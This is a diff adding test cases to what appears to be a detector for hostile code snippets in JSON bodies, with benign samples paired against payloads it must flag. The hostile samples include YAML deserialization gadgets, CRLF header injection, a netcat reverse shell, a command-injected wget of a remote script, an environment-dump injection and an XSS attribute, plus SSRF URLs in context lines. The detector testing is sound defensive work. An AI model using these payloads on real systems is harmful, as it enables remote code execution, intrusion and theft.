@@ -59,4 +59,41 @@ describe("code examples in a JSON body", () => {
       "http://169.254.169.254/latest/meta-data/",
       "gopher://127.0.0.1:6379/_FLUSHALL"
     ]))
+
+  it.effect("pass YAML core-schema tags; a tag that builds a language object still counts", () =>
+    expectVerdicts([
+      "!!null ''    # null\n!!bool 'yes' # bool\n!!binary '...base64...' # buffer\n!!timestamp 'YYYY-...' # date\n!!set { a, b }",
+      "ids: !!set\n  ? a\n  ? b"
+    ], [
+      "!!python/object/apply:os.system ['id']",
+      "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.9/\"]]]]",
+      "--- !ruby/object:Gem::Installer\ni: x"
+    ]))
+
+  it.effect("pass an object literal whose lines look like headers; a header line in a value still counts", () =>
+    expectVerdicts([
+      "mockPool.intercept({\n  path: '/foo',\n  headers: {\n    'user-agent': 'undici',\n    host: 'example.com'\n  }\n})",
+      "console.log(parse('for=198.51.100.17;host=example.com'))\n// => [{\nfor: '198.51.100.17',\nhost: 'example.com'\n}]"
+    ], [
+      "en\r\nSet-Cookie: sid=attacker",
+      "x\r\nLocation: http://203.0.113.9/"
+    ]))
+
+  it.effect("pass a shebang line and a JavaScript call named like a command; the command after them still counts", () =>
+    expectVerdicts([
+      "#!/usr/bin/env node\nconst yargs = require('yargs/yargs')\nyargs(process.argv.slice(2)).parse()",
+      "var expand = require('brace-expansion')\n\nexpand('file-{a,b,c}.jpg')\n// => ['file-a.jpg', 'file-b.jpg', 'file-c.jpg']"
+    ], [
+      "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444",
+      "expand('x');wget http://203.0.113.9/a.sh"
+    ]))
+
+  it.effect("pass settings read and a handler variable in a snippet; a page sink or an evaluated env dump still counts", () =>
+    expectVerdicts([
+      "var path = require('path')\nvar managePath = require('manage-path')\nvar alterPath = managePath(process.env)\nalterPath.unshift(path.join(process.cwd(), 'node_modules', '.bin'))",
+      "const onResult = ({ glob, regex, input, output }) => {\n  console.log({ glob, regex, input, output });\n};\n\nconst isMatch = picomatch('*', { onResult });"
+    ], [
+      "';res.end(JSON.stringify(process.env));//",
+      "\" onfocus=alert(document.domain) autofocus x=\""
+    ]))
 })
